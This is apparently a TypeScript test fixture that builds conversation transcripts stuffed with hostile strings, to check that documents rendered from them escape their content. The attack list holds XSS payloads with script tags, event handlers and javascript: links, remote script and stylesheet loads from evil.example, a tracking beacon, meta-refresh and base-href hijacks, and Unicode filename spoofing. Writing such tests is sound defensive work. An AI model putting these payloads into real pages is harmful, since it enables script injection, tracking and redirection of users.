import fc from 'fast-check'
import type { Transcript } from '../../src/shared/conversation/transcript'
import { arbitraryTranscript } from './arbitrary-transcript'
import { aTranscript, spoken, written } from './transcripts'

/** What people say, typed by somebody who wants to break the document that it ends up in. */
const attacks = [
  '<script>alert(1)</script>',
  '</script><script src=//evil.example/x.js></script>',
  '<img src="https://evil.example/beacon" onerror=alert(1)>',
  '![beacon](https://evil.example/beacon.png) [click](javascript:alert(1)) <javascript:alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  "\"><svg/onload=alert(1)> ' onmouseover=alert(1) x='",
  '</title></style></p></article></main><h1>x</h1><!-- --> <![CDATA[ x ]]>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="//evil.example"><link rel=stylesheet href=x>',
  '@import url(https://evil.example/x.css); body{background:url(//evil.example)}',
  '\u202Egnp.exe \u202D\u2066left open',
  'x'.repeat(100_000),
  `a${' '.repeat(100_000)}b`,
  '`'.repeat(5_000) + ' `'.repeat(10_000),
  '# '.repeat(1000),
  '-'.repeat(10_000) + '\n=====\n| a | b |\n|---|---|\n',
  '\n\n2\n00:00:00,000 --> 00:00:01,000\nYou: I said that',
  'WEBVTT\n\nSTYLE\n::cue{background:url(//evil.example)}\n\nNOTE x\n',
  '&lt;script&gt; &#60;b&#62; &amp;lt; \0\u0007\u001B[2J\u009B1m \uD83D',
]

/** A text in every place where a conversation can hold one. */
export const everywhere = (text: string): Transcript => {
  const base = { id: text, at: 5, status: 'completed' } as const
  return aTranscript(
    [
      written(text),
      written(text, 'system'),
      spoken('user', 5, text, 3000),
      spoken('assistant', 9, text, 3000, 1500),
      { ...base, kind: 'function_call', name: text, callId: text, arguments: text },
      { ...base, kind: 'function_output', callId: text, output: text },
      { ...base, kind: 'notice', level: 'error', code: text, text, values: { said: text } },
      { ...base, kind: 'other', type: text },
    ],
    { title: text, model: text, endpoint: text, startedAt: 0 },
  )
}

/** Transcripts made to break out of the document that they are put into. */
export const nastyTranscript: fc.Arbitrary<Transcript> = fc.oneof(
  arbitraryTranscript,
  fc
    .array(fc.constantFrom(...attacks.filter((attack) => attack.length < 1000)), { minLength: 1, maxLength: 3 })
    .map((some) => everywhere(some.join(' '))),
)

/** For tests of each: what they are called, and what they are. */
export const namedAttacks = attacks.map((attack): [name: string, attack: string] => [attack.slice(0, 60), attack])
